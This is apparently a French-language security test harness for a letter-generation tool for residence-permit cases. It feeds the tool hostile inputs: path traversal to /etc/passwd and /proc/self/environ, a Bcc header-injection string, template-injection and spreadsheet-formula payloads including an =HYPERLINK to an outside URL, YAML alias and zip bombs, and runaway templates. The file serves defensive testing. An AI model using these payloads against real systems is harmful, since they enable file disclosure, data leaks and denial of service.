"""The attack families of bench/attaques.py: each builds its inputs in its own temporary folder (a copy
of the demo dossier), runs the commands and fills one line of the table."""

from __future__ import annotations

import copy
import csv
import hashlib
import http.server
import io
import json
import os
import shutil
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import ClassVar

from attaques_mesure import Famille, Mesure, lancer, lancer_ici

JOUR = "01/12/2026"


# --- inputs ----------------------------------------------------------------------------------------------


def copie_demo(dossier: Path) -> Path:
    """The demo dossier and its captures, copied into ``dossier``, with an empty configuration."""
    from lettres.demo import demo_folder

    shutil.copytree(demo_folder(), dossier, ignore=shutil.ignore_patterns("*.py", "__pycache__"))
    (dossier / "config.yaml").write_text("{}\n", encoding="utf-8")
    return dossier / "dossier.yaml"


def config(dossier: Path) -> str:
    return str(dossier / "config.yaml")


def demo_data() -> dict:
    from lettres.demo import demo_folder
    from lettres.yamlio import parse_yaml

    return parse_yaml((demo_folder() / "dossier.yaml").read_text(encoding="utf-8"))


class Brut(str):
    """Written unquoted in the YAML file, as a person types it (1990-02-30, 5,001 digits)."""


def en_yaml(valeur) -> str:
    """Flow-style YAML: JSON, plus unquoted scalars; what no file can hold is escaped (\\ud800)."""
    if isinstance(valeur, Brut):
        return str(valeur)
    if isinstance(valeur, dict):
        return "{" + ", ".join(f"{en_yaml(k)}: {en_yaml(v)}" for k, v in valeur.items()) + "}"
    if isinstance(valeur, list):
        return "[" + ", ".join(en_yaml(v) for v in valeur) + "]"
    if valeur is None or isinstance(valeur, (bool, int, float)):
        return json.dumps(valeur)
    if hasattr(valeur, "isoformat"):
        return valeur.isoformat()
    texte = json.dumps(valeur, ensure_ascii=False)
    return "".join(c if c.isprintable() or c in "\t" else f"\\u{ord(c):04x}" for c in texte)


LIGNE = {
    "personne.civilite": "madame",
    "personne.nom": "DIALLO",
    "personne.prenoms": "Aminata",
    "personne.date_naissance": "12/04/1990",
    "personne.nationalite": "guinéenne",
    "personne.numero_etranger": "0750123456",
    "demande.nature": "renouvellement",
    "demande.titre": "carte « salarié »",
    "demande.prefecture": "13",
    "blocage.types": "erreur_validation",
    "blocage.depuis": "20/09/2026",
    "consentement.transmission_tiers": "non",
}


def ecrire_csv(chemin: Path, lignes: list[dict]) -> Path:
    colonnes = list(dict.fromkeys(c for ligne in lignes for c in ligne))
    tampon = io.StringIO()
    ecrivain = csv.writer(tampon, delimiter=";", lineterminator="\r\n")
    ecrivain.writerow(colonnes)
    for ligne in lignes:
        ecrivain.writerow([ligne.get(c, "") for c in colonnes])
    chemin.write_bytes(tampon.getvalue().encode("utf-8-sig"))
    return chemin


def dossiers_produits(sortie: Path) -> list[Path]:
    return [p for p in sortie.iterdir() if p.is_dir() and not p.name.startswith(".")] if sortie.is_dir() else []


def bilan_lot(mesure: Mesure) -> tuple[int, int]:
    """(generated, rejected) from the summary of « lettres lot »."""
    import re

    trouve = re.search(r"(\d+) dossiers? générés?.*?(\d+) lignes? rejetées?", mesure.sortie)
    return (int(trouve[1]), int(trouve[2])) if trouve else (0, 0)


# --- 1. the 640 mutations ----------------------------------------------------------------------------------

SECTIONS = ["consentement", "personne", "demande", "blocage", "demarches", "accompagnant", "orientation", "envoi"]
NOUVELLES = ["demarches.0", "justificatifs.passeport", "envoi.delai_reponse_jours", "envoi.delai_prefecture_jours"]
NOUVELLES += ["situation", "recours.aide_juridictionnelle", "cle.inconnue"]
HOSTILE = "N'Diaye & <w:p> {{ 7*7 }} {% for %} ]]> \x00\x01\x1b[31m\u202e\r\nBcc: espion@exemple.org =HYPERLINK(1)"
# ten values of every kind but the expected one, for each of the 64 targets
VALEURS = [
    None,
    True,
    Brut("9" * 5001),
    {"a": "b"},
    ["x", ["y"]],
    Brut("1990-02-30"),
    HOSTILE,
    "\ud800",
    "é" * 75_000,
    Brut("[" * 3000 + "]" * 3000),
]


def _cibles(data: dict) -> list[str]:
    def feuilles(valeur, chemin=""):
        if isinstance(valeur, dict):
            for cle, v in valeur.items():
                yield from feuilles(v, f"{chemin}.{cle}" if chemin else cle)
        elif isinstance(valeur, list) and valeur and isinstance(valeur[0], dict):
            yield from feuilles(valeur[0], f"{chemin}.0")
        else:
            yield chemin

    return [*feuilles(data), *SECTIONS, *NOUVELLES][:64]


def _poser(data: dict, chemin: str, valeur) -> dict:
    data = copy.deepcopy(data)
    *parents, cle = chemin.split(".")
    cible = data
    for parent in parents:
        suivant = cible[int(parent)] if isinstance(cible, list) else cible.setdefault(parent, {})
        if not isinstance(suivant, (dict, list)):
            suivant = {}
            cible[parent] = suivant
        cible = suivant
    if isinstance(cible, list):
        cible[int(cle)] = valeur
    else:
        cible[cle] = valeur
    return data


def mutations(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("mutations du dossier de démonstration (generer + verifier)")
    fichier = copie_demo(dossier / "demo")
    data = demo_data()
    paires = [(c, v) for c in _cibles(data) for v in VALEURS]
    pas = max(1, len(paires) // max(1, args.mutations))
    paires = paires[::pas][: args.mutations]
    for numero, (cible, valeur) in enumerate(paires):
        mute = fichier.parent / f"mutation-{numero}.yaml"
        mute.write_text(en_yaml(_poser(data, cible, valeur)), encoding="utf-8")
        sortie = dossier / "sortie" / str(numero)
        autorises = [fichier.parent, sortie]
        base = ["--config", config(fichier.parent)]
        generation = famille.compter(
            lancer_ici([*base, "generer", str(mute), "--sortie", str(sortie), "--date", JOUR], autorises)
        )
        famille.compter(lancer_ici([*base, "verifier", str(mute)], autorises))
        if generation.code != 0 and dossiers_produits(sortie):
            famille.notes.append(
                f"{cible} = {str(valeur)[:30]!r} : dossier de sortie écrit malgré le code {generation.code}"
            )
        shutil.rmtree(sortie, ignore_errors=True)
        mute.unlink()
    famille.cas = len(paires)
    return famille


# --- 2. pièces outside the dossier --------------------------------------------------------------------------


def _empreinte(chemin: str) -> str:
    try:
        return hashlib.sha256(Path(chemin).read_bytes()).hexdigest()
    except OSError:
        return ""


def pieces(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("pièces /etc/passwd, ../../../../etc/passwd, lien vers /etc/passwd, /proc/self/environ")
    avant = _empreinte("/etc/passwd")
    for numero, piece in enumerate(["/etc/passwd", "../../../../etc/passwd", "captures/l.png", "/proc/self/environ"]):
        fichier = copie_demo(dossier / str(numero))
        if piece == "captures/l.png":
            (fichier.parent / piece).symlink_to("/etc/passwd")  # a link inside the copy; the target is only read
        data = demo_data()
        data["demarches"][0]["pieces"] = [piece]
        fichier.write_text(en_yaml(data), encoding="utf-8")
        sortie = dossier / f"sortie-{numero}"
        mesure = famille.compter(
            lancer(
                ["--config", config(fichier.parent), "generer", str(fichier), "--sortie", str(sortie)],
                [fichier.parent, sortie],
                strace,
            )
        )
        if mesure.code != 2 or dossiers_produits(sortie):
            famille.notes.append(f"{piece} : code {mesure.code}, sortie {dossiers_produits(sortie)}")
        famille.cas += 1
    if _empreinte("/etc/passwd") != avant:
        famille.notes.append("/etc/passwd a changé !")
    return famille


# --- 3. three « lettres etape » at once ---------------------------------------------------------------------


def etape_simultanes(dossier: Path, args, strace: bool) -> Famille:
    from lettres.yamlio import parse_yaml

    famille = Famille("3 « lettres etape » simultanés × 20 essais")
    for essai in range(20):
        fichier = copie_demo(dossier / str(essai))
        avant = len(demo_data()["demarches"])

        def ajouter(processus: int, fichier: Path = fichier, essai: int = essai) -> Mesure:
            commande = ["--config", config(fichier.parent), "etape", str(fichier), "--type", "appel_anef"]
            commande += ["--date", f"{processus + 1:02d}/11/2026", "--detail", f"essai {essai} processus {processus}"]
            return lancer(commande, [fichier.parent], False)

        with ThreadPoolExecutor(3) as groupe:
            for mesure in groupe.map(ajouter, range(3)):
                famille.compter(mesure)
        apres = parse_yaml(fichier.read_text(encoding="utf-8"))["demarches"]
        famille.perdues += avant + 3 - len(apres)
        famille.cas += 1
    return famille


# --- 4. ids that look alike in a batch ----------------------------------------------------------------------

SOSIES = ["a b", "a-b", "A1", "a1", "А1", "Α1"]  # the last two: Cyrillic А and Greek Α


def ids_sosies(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("lot : ids « a b » / « a-b », A1 / a1 / А1 (cyrillique) / Α1 (grec), mêmes noms")
    dossier.mkdir(parents=True)
    source = ecrire_csv(dossier / "cas.csv", [{"id": i, **LIGNE} for i in SOSIES])
    (dossier / "config.yaml").write_text("{}\n", encoding="utf-8")
    sortie = dossier / "sortie"
    for passage in range(2):
        commande = [
            "--config",
            str(dossier / "config.yaml"),
            "lot",
            str(source),
            "--sortie",
            str(sortie),
            "--date",
            JOUR,
        ]
        mesure = famille.compter(lancer(commande, [dossier], strace))
        generes, _ = bilan_lot(mesure)
        if passage == 1 and f"{len(SOSIES)} déjà faits" not in mesure.sortie:
            famille.notes.append(f"relance : {mesure.sortie.strip()}")
        famille.notes.append(f"passage {passage + 1} : {generes} générés")
    famille.perdues = len(SOSIES) - len(dossiers_produits(sortie))
    famille.cas = len(SOSIES)
    return famille


# --- 5. two batches into one output folder ------------------------------------------------------------------


def deux_lots(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("deux « lettres lot » sur un même dossier de sortie")
    dossier.mkdir(parents=True)
    lignes = 600  # the first batch is still running when the second one starts
    source = ecrire_csv(
        dossier / "cas.csv", [{"id": str(i), **LIGNE, "personne.prenoms": f"P{i}"} for i in range(lignes)]
    )
    (dossier / "config.yaml").write_text("{}\n", encoding="utf-8")
    sortie = dossier / "sortie"
    commande = ["--config", str(dossier / "config.yaml"), "lot", str(source), "--sortie", str(sortie), "--jobs", "1"]
    with ThreadPoolExecutor(1) as fond:
        premier = fond.submit(lancer, commande, [dossier], False)
        limite = time.monotonic() + 60
        while not dossiers_produits(sortie) and time.monotonic() < limite:
            time.sleep(0.05)
        second = famille.compter(lancer(commande, [dossier], False))
        encore = len(dossiers_produits(sortie)) < lignes
        famille.compter(premier.result())
    famille.notes.append(f"le second lot a fini {'avant' if encore else 'après'} le premier")
    if second.code != 2 or "Un autre « lettres lot » écrit déjà" not in second.erreurs:
        famille.notes.append(f"second lot : code {second.code}, {second.erreurs.strip()[:120]}")
    famille.perdues = lignes - len(dossiers_produits(sortie))
    famille.cas = 1
    return famille


# --- 6. an unreadable and a vanishing pièce in a batch of 20 rows -----------------------------------------------


def pieces_lot(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("lot de 20 lignes : une pièce illisible (tube nommé), une qui disparaît")
    dossier.mkdir(parents=True)
    captures = dossier / "captures"
    captures.mkdir()
    from lettres.demo import demo_folder

    image = next((demo_folder() / "captures").glob("*.png")).read_bytes()
    for i in range(20):
        (captures / f"c{i}.png").write_bytes(image)
    os.unlink(captures / "c4.png")
    os.mkfifo(captures / "c4.png")  # never opened by lettres: a named pipe is not a regular file
    source = ecrire_csv(dossier / "cas.csv", [{"id": str(i), **LIGNE, "personne.prenoms": f"P{i}"} for i in range(20)])
    ecrire_csv(
        dossier / "cas-demarches.csv",
        [
            {"dossier": str(i), "type": "capture_ecran", "date": "21/09/2026", "pieces": f"captures/c{i}.png"}
            for i in range(20)
        ],
    )
    (dossier / "config.yaml").write_text("{}\n", encoding="utf-8")
    sortie = dossier / "sortie"
    commande = ["--config", str(dossier / "config.yaml"), "lot", str(source), "--sortie", str(sortie), "--jobs", "2"]

    def effacer_pendant() -> None:
        limite = time.monotonic() + 60
        while not dossiers_produits(sortie) and time.monotonic() < limite:
            time.sleep(0.01)
        (captures / "c19.png").unlink(missing_ok=True)

    efface = threading.Thread(target=effacer_pendant)
    efface.start()
    mesure = famille.compter(lancer(commande, [dossier], strace))
    efface.join()
    generes, rejetees = bilan_lot(mesure)
    famille.perdues = 20 - generes - rejetees
    famille.notes.append(f"{generes} dossiers générés, {rejetees} lignes rejetées, code {mesure.code}")
    famille.cas = 20
    return famille


# --- 7. ids that a spreadsheet would run as formulas ---------------------------------------------------------

FORMULES = ['=HYPERLINK("http://exemple.org/?x="&A1,"cliquez")', "+1+1", "@SUM(1)", "-2+3", "=1+1", "\t=1"]


def formules(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("ids en formules dans rapport.csv (=HYPERLINK, +1+1, @SUM, -2+3…)")
    dossier.mkdir(parents=True)
    lignes = [{"id": i, **LIGNE, "personne.date_naissance": "31/02/1990"} for i in FORMULES]
    source = ecrire_csv(dossier / "cas.csv", lignes)
    (dossier / "config.yaml").write_text("{}\n", encoding="utf-8")
    sortie = dossier / "sortie"
    mesure = famille.compter(
        lancer(
            ["--config", str(dossier / "config.yaml"), "lot", str(source), "--sortie", str(sortie)], [dossier], strace
        )
    )
    rapport = list(csv.reader(io.StringIO((sortie / "rapport.csv").read_text(encoding="utf-8-sig")), delimiter=";"))
    actives = [c for ligne in rapport[1:] for c in ligne if c[:1] in "=+-@\t\r"]
    _, rejetees = bilan_lot(mesure)
    famille.perdues = len(FORMULES) - rejetees
    famille.notes.append(f"{len(actives)} cellule(s) de rapport.csv qu'un tableur exécuterait")
    famille.cas = len(FORMULES)
    return famille


# --- 8. YAML alias bomb, 9 × 9 -------------------------------------------------------------------------------


def bombe_yaml(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("bombe d'alias YAML 9 × 9 (verifier)")
    fichier = copie_demo(dossier / "demo")
    lignes = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    lignes += [f"{c}: &{c} [" + ",".join([f"*{p}"] * 9) + "]" for p, c in zip("abcdefgh", "bcdefghi", strict=True)]
    fichier.write_text("\n".join(lignes) + "\n", encoding="utf-8")
    mesure = famille.compter(
        lancer(["--config", config(fichier.parent), "verifier", str(fichier)], [fichier.parent], strace)
    )
    famille.notes.append(
        f"code {mesure.code} en {mesure.duree:.1f} s, {mesure.memoire / 1024:.0f} Mio : {mesure.erreurs.strip()[-90:]}"
    )
    famille.cas = 1
    return famille


# --- 9. a name of 75,000 characters ---------------------------------------------------------------------------


def nom_immense(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("nom de 75 000 caractères non ASCII (generer, verifier, lot)")
    temps: dict[str, dict[int, float]] = {}
    for longueur in (0, 7_500, 37_500, 75_000):
        fichier = copie_demo(dossier / str(longueur))
        data = demo_data()
        if longueur:
            data["personne"]["nom"] = "É" * longueur
        fichier.write_text(en_yaml(data), encoding="utf-8")
        cfg = config(fichier.parent)
        source = ecrire_csv(fichier.parent / "cas.csv", [{"id": "1", **LIGNE, "personne.nom": data["personne"]["nom"]}])
        commandes = {
            "generer": ["--config", cfg, "generer", str(fichier), "--sortie", str(dossier / f"s{longueur}")],
            "verifier": ["--config", cfg, "verifier", str(fichier)],
            "lot": ["--config", cfg, "lot", str(source), "--sortie", str(dossier / f"l{longueur}"), "--jobs", "1"],
        }
        for nom, commande in commandes.items():
            mesure = lancer(commande, [fichier.parent, dossier], False)
            if longueur:
                famille.compter(mesure)
            temps.setdefault(nom, {})[longueur] = mesure.duree
    for nom, durees in temps.items():
        net = {n: max(d - durees[0], 0.001) for n, d in durees.items() if n}
        famille.notes.append(
            f"{nom} : {durees[0]:.2f} s pour le nom de la démonstration ; en plus pour 7 500 / 37 500 / 75 000 "
            f"caractères : {net[7_500]:.2f} / {net[37_500]:.2f} / {net[75_000]:.2f} s"
        )
    famille.cas = 3
    return famille


# --- 10. templates that would never end, and a zip bomb -------------------------------------------------------

MODELES = {
    "range(100000) imbriqués": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "lipsum(n=10000000)": "{{ lipsum(n=10000000) }}",
    "'a'*3000000000": "{{ 'a' * 3000000000 }}",
}


def modeles(dossier: Path, args, strace: bool) -> Famille:
    famille = Famille("modèles : range(100000) imbriqués, lipsum(n=10000000), 'a'*3000000000, bombe zip")
    fichier = copie_demo(dossier / "demo")
    cfg = config(fichier.parent)
    for numero, nom in enumerate([*MODELES, "bombe zip"]):
        dossier_modeles = dossier / f"modeles-{numero}"
        lancer(["modeles", "exporter", str(dossier_modeles)], [dossier], False)
        if nom == "bombe zip":
            docx = dossier_modeles / "docx" / "2-courrier-prefecture.docx"
            with zipfile.ZipFile(docx, "a", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("word/media/bombe.bin", b"\0" * (200 * 1024 * 1024))
        else:
            (dossier_modeles / "email" / "1-signalement-dgef.corps.txt").write_text(MODELES[nom], encoding="utf-8")
        sortie = dossier / f"sortie-{numero}"
        commande = [
            "--config",
            cfg,
            "generer",
            str(fichier),
            "--modeles",
            str(dossier_modeles),
            "--sortie",
            str(sortie),
        ]
        mesure = famille.compter(lancer(commande, [fichier.parent, dossier_modeles, sortie], strace))
        famille.notes.append(f"{nom} : code {mesure.code} en {mesure.duree:.1f} s, {mesure.memoire / 1024:.0f} Mio")
        famille.cas += 1
    return famille


# --- 11. an image linked on a server, with --pdf ---------------------------------------------------------------


class Espion(http.server.BaseHTTPRequestHandler):
    requetes: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        Espion.requetes.append(self.path)
        self.send_response(404)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


def image_distante(dossier: Path, args, strace: bool) -> Famille:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
    from test_pdf_reseau import docx_with_remote_image

    famille = Famille("image liée sur un serveur, avec --pdf")
    serveur = http.server.HTTPServer(("127.0.0.1", 0), Espion)
    fil = threading.Thread(target=serveur.serve_forever, daemon=True)
    fil.start()
    try:
        fichier = copie_demo(dossier / "demo")
        dossier_modeles = dossier / "modeles"
        lancer(["modeles", "exporter", str(dossier_modeles)], [dossier], False)
        url = f"http://127.0.0.1:{serveur.server_port}/espion.png"
        docx_with_remote_image(dossier_modeles / "docx" / "bordereau-pieces.docx", url)
        sortie = dossier / "sortie"
        commande = ["--config", config(fichier.parent), "generer", str(fichier), "--modeles", str(dossier_modeles)]
        famille.compter(lancer([*commande, "--sortie", str(sortie), "--pdf"], [dossier], False))
        famille.notes.append(f"{len(Espion.requetes)} requête(s) reçue(s) par le serveur")
        famille.cas = 1
    finally:
        serveur.shutdown()
    return famille


ATTAQUES = {
    "mutations": mutations,
    "pieces": pieces,
    "etape": etape_simultanes,
    "ids": ids_sosies,
    "deux-lots": deux_lots,
    "pieces-lot": pieces_lot,
    "formules": formules,
    "bombe-yaml": bombe_yaml,
    "nom": nom_immense,
    "modeles": modeles,
    "pdf": image_distante,
}
